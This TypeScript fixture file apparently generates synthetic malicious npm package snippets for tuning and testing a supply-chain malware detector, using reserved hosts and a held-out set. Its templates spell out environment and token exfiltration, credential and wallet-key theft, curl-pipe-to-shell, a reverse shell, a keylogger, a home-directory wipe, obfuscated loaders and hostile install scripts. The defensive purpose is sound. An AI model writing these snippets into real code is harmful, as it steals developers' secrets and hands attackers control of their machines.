import type { Random } from '../../src/core/random.ts'
import { pick } from '../../src/core/random.ts'

/**
 * Documented techniques as inert one-liners: addresses are reserved (`.invalid`, `.example`, TEST-NET), recipients are
 * dead, and nothing is ever executed; the generated archives stay in a temporary folder.
 *
 * `$0`, `$1` … are local names that the form may rename. `held` templates are never looked at while rules are tuned.
 */
export interface Template {
  readonly id: string
  readonly held: boolean
  readonly code?: (word: Words) => string
  /** Changes the manifest instead of a source file; returns the key whose line is the truth. */
  readonly manifest?: (json: Record<string, unknown>, word: Words) => { section: string; key: string }
  /** Adds a file. */
  readonly file?: (word: Words) => { path: string; text: string; line: number }
}

export interface Words {
  readonly host: string
  readonly ip: string
  readonly word: string
  readonly number: number
}

export function words(random: Random): Words {
  const syllables = ['ka', 'lo', 'mi', 'ter', 'sun', 'vek', 'ran', 'dor', 'pel', 'qui', 'zan', 'bru']
  const word = (): string =>
    Array.from({ length: 2 + Math.floor(random.next() * 2) }, () => pick(random, syllables)).join('')
  return {
    host: `${word()}.${word()}.${pick(random, ['invalid', 'example'])}`,
    ip: pick(random, ['192.0.2.', '198.51.100.', '203.0.113.']) + (1 + Math.floor(random.next() * 250)),
    word: word(),
    number: 1000 + Math.floor(random.next() * 60_000),
  }
}

const hex = (text: string): string => Buffer.from(text).toString('hex')
const b64 = (text: string): string => Buffer.from(text).toString('base64')
const xor = (text: string, key: number): string =>
  [...text].map((char) => (char.charCodeAt(0) ^ key).toString(16).padStart(2, '0')).join('')
const selectors = (text: string): string =>
  [...Buffer.from(text)].map((byte) => String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16)).join('')

export const templates: readonly Template[] = [
  {
    id: 'env-exfil',
    held: false,
    code: (w) =>
      `require('https').request({ hostname: '${w.host}', path: '/${w.word}', method: 'POST' }).end(JSON.stringify(process.env));`,
  },
  {
    id: 'env-fetch',
    held: false,
    code: (w) =>
      `fetch('https://${w.host}/${w.word}', { method: 'POST', body: JSON.stringify({ ...process.env }) }).catch(() => {});`,
  },
  {
    id: 'secret-env',
    held: false,
    code: (w) =>
      `const $0 = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN; if ($0) require('https').get('https://${w.host}/?${w.word}=' + encodeURIComponent($0));`,
  },
  {
    id: 'remote-function',
    held: false,
    code: (w) =>
      `require('https').get('https://${w.host}/${w.word}', ($0) => { let $1 = ''; $0.on('data', ($2) => ($1 += $2)); $0.on('end', () => new Function('require', $1)(require)); });`,
  },
  {
    id: 'fetch-eval',
    held: false,
    code: (w) => `fetch('https://${w.host}/api/${w.number}').then(($0) => $0.json()).then(($1) => eval($1.${w.word}));`,
  },
  {
    id: 'base64-eval',
    held: false,
    code: (w) => `eval(Buffer.from('${b64(`console.log("${w.word}")`)}', 'base64').toString());`,
  },
  {
    id: 'xor-loader',
    held: false,
    code: (w) =>
      `const $0 = '${xor(`https://${w.host}/${w.word}`, 7)}'.match(/../g).map(($1) => String.fromCharCode(parseInt($1, 16) ^ 7)).join(''); require('https').get($0, ($2) => $2.on('data', ($3) => new Function($3.toString())()));`,
  },
  {
    id: 'detached-spawn',
    held: false,
    code: (w) =>
      `require('child_process').spawn(process.execPath, ['-e', "require('http').get('http://${w.ip}:${w.number}/${w.word}')"], { detached: true, stdio: 'ignore' }).unref();`,
  },
  {
    id: 'curl-pipe',
    held: false,
    code: (w) => `require('child_process').exec('curl -s http://${w.host}/${w.word}.sh | sh');`,
  },
  {
    id: 'wallet-hook',
    held: false,
    code: (w) =>
      `if (typeof window !== 'undefined' && window.ethereum) { const $0 = window.ethereum.request; window.ethereum.request = ($1) => { if ($1.method === 'eth_sendTransaction') $1.params[0].to = '0x${w.word
        .padEnd(40, '0')
        .replace(/[^0-9a-f]/g, 'd')
        .slice(0, 40)}'; return $0.call(window.ethereum, $1); }; }`,
  },
  {
    id: 'fetch-swap',
    held: false,
    code: (w) =>
      `const $0 = globalThis.fetch; globalThis.fetch = async (...$1) => { const $2 = await $0(...$1); const $3 = (await $2.clone().text()).replace(/0x[a-fA-F0-9]{40}/g, '0x${'0'.repeat(36)}${w.number.toString(16).padStart(4, '0').slice(0, 4)}'); return new Response($3, $2); };`,
  },
  {
    id: 'solana-key',
    held: false,
    code: (w) =>
      `try { const $0 = require('fs').readFileSync(require('path').join(require('os').homedir(), '.config', 'solana', 'id.json'), 'utf8'); require('https').get('https://${w.host}/?${w.word}=' + $0); } catch {}`,
  },
  {
    id: 'split-require',
    held: false,
    code: (w) => `module['req' + 'uire'](['child', 'process'].join('_'))['ex' + 'ec']('echo ${w.word}');`,
  },
  {
    id: 'key-leak',
    held: false,
    code: (w) =>
      `function $0(privateKey) { new Image().src = 'https://${w.host}/p.gif?${w.word}=' + privateKey; } module.exports.$0 = $0;`,
  },
  {
    id: 'dns-exfil',
    held: false,
    code: (w) =>
      `require('dns').resolve(Buffer.from(require('os').hostname()).toString('hex').slice(0, 60) + '.${w.host}', () => {});`,
  },
  {
    id: 'offscreen',
    held: false,
    code: (w) =>
      `void 0;${' '.repeat(420)}eval(Buffer.from('${b64(`console.log('${w.word}')`)}', 'base64').toString());`,
  },
  {
    id: 'invisible',
    held: false,
    code: (w) =>
      `eval([...'${selectors(`console.log('${w.word}')`)}'].map(($0) => String.fromCharCode($0.codePointAt(0) - 0xe0100 + 16)).join(''));`,
  },
  {
    id: 'reverse-shell',
    held: false,
    code: (w) =>
      `const $0 = require('net').connect(${w.number}, '${w.ip}', () => { const $1 = require('child_process').spawn('/bin/sh', []); $0.pipe($1.stdin); $1.stdout.pipe($0); });`,
  },
  {
    id: 'npmrc-read',
    held: false,
    code: (w) =>
      `require('fs').readFile(require('os').homedir() + '/.npmrc', 'utf8', ($0, $1) => { if ($1) fetch('https://${w.host}/${w.word}', { method: 'POST', body: $1 }); });`,
  },
  {
    id: 'clipboard-swap',
    held: false,
    code: (w) =>
      `document.addEventListener('copy', ($0) => { $0.clipboardData.setData('text/plain', 'bc1q${w.word}${'x'.repeat(30)}'); $0.preventDefault(); });`,
  },
  {
    id: 'workflow-write',
    held: false,
    code: (w) =>
      `require('fs').writeFileSync('.github/workflows/${w.word}.yml', 'on: push\\njobs:\\n  a:\\n    runs-on: self-hosted\\n');`,
  },
  {
    id: 'postinstall',
    held: false,
    manifest: (json, w) => script(json, 'postinstall', `node -e "require('http').get('http://${w.host}/${w.word}')"`),
  },
  {
    id: 'postinstall-curl',
    held: false,
    manifest: (json, w) => script(json, 'preinstall', `curl -s http://${w.host}/${w.word} | bash`),
  },
  { id: 'phantom-dependency', held: false, manifest: (json, w) => dependency(json, `${w.word}-crypto-js`, '^1.0.1') },
  {
    id: 'remote-dependency',
    held: false,
    manifest: (json, w) => dependency(json, `ui-${w.word}`, `http://${w.host}/npm/ui-${w.word}`),
  },
  {
    id: 'binding-gyp',
    held: false,
    file: (w) => ({
      path: 'binding.gyp',
      line: 1,
      text: `{ 'targets': [{ 'target_name': '${w.word}', 'type': 'none', 'sources': ['<!(node ${w.word}.js)'] }] }\n`,
    }),
  },

  {
    id: 'cookie-beacon',
    held: true,
    code: (w) =>
      `navigator.sendBeacon('https://${w.host}/${w.word}', document.cookie + localStorage.getItem('token'));`,
  },
  {
    id: 'keylogger',
    held: true,
    code: (w) =>
      `let $0 = ''; document.addEventListener('keydown', ($1) => { $0 += $1.key; if ($0.length > 64) { fetch('https://${w.host}/${w.word}', { method: 'POST', body: $0 }); $0 = ''; } });`,
  },
  {
    id: 'websocket-c2',
    held: true,
    code: (w) => `new WebSocket('wss://${w.host}/${w.word}').onmessage = ($0) => Function($0.data)();`,
  },
  {
    id: 'vm-run',
    held: true,
    code: (w) =>
      `require('http').get('http://${w.ip}:${w.number}/', ($0) => { const $1 = []; $0.on('data', ($2) => $1.push($2)).on('end', () => require('vm').runInThisContext(Buffer.concat($1).toString())); });`,
  },
  {
    id: 'dns-txt-exec',
    held: true,
    code: (w) =>
      `require('dns').resolveTxt('${w.word}.${w.host}', ($0, $1) => { if (!$0) require('child_process').execSync($1.flat().join('')); });`,
  },
  {
    id: 'module-hook',
    held: true,
    code: () =>
      `const $0 = require('module'); const $1 = $0.prototype.require; $0.prototype.require = function ($2) { return $2 === 'electrum' ? {} : $1.apply(this, arguments); };`,
  },
  {
    id: 'download-run',
    held: true,
    code: (w) =>
      `require('https').get('https://${w.host}/${w.word}', ($0) => $0.pipe(require('fs').createWriteStream('/tmp/${w.word}')).on('finish', () => require('child_process').execFile('/tmp/${w.word}')));`,
  },
  {
    id: 'git-credentials',
    held: true,
    code: (w) =>
      `const $0 = require('child_process').execSync('git config --get credential.helper; cat ~/.git-credentials', { encoding: 'utf8' }); require('http').request('http://${w.host}/${w.word}', { method: 'PUT' }).end($0);`,
  },
  {
    id: 'script-tag',
    held: true,
    code: (w) =>
      `if (typeof document !== 'undefined') { const $0 = document.createElement('script'); $0.src = 'https://${w.host}/${w.word}.js'; document.head.appendChild($0); }`,
  },
  {
    id: 'hex-array-exec',
    held: true,
    code: (w) =>
      `const $0 = ['${hex('child_process')}', '${hex('exec')}'].map(($1) => Buffer.from($1, 'hex').toString()); require($0[0])[$0[1]]('${w.word}');`,
  },
  {
    id: 'delete-files',
    held: true,
    code: () =>
      `if (new Date() > new Date('2027-01-01')) require('fs').rmSync(require('os').homedir(), { recursive: true, force: true });`,
  },
  {
    id: 'mnemonic-post',
    held: true,
    code: (w) =>
      `exports.$0 = function (mnemonic) { return require('axios').post('https://${w.host}/${w.word}', { m: mnemonic }).catch(() => mnemonic); };`,
  },
  {
    id: 'getter-trap',
    held: true,
    code: (w) =>
      `Object.defineProperty(globalThis, 'fetch', { value: (...$0) => { require('https').get('https://${w.host}/?${w.word}=' + encodeURIComponent(JSON.stringify($0))); } });`,
  },
  { id: 'prepare-script', held: true, manifest: (json, w) => script(json, 'install', `node ./${w.word}.js || exit 0`) },
]

function script(json: Record<string, unknown>, key: string, command: string): { section: string; key: string } {
  json['scripts'] = { ...(json['scripts'] as object | undefined), [key]: command }
  return { section: 'scripts', key }
}

function dependency(json: Record<string, unknown>, key: string, spec: string): { section: string; key: string } {
  json['dependencies'] = { ...(json['dependencies'] as object | undefined), [key]: spec }
  return { section: 'dependencies', key }
}
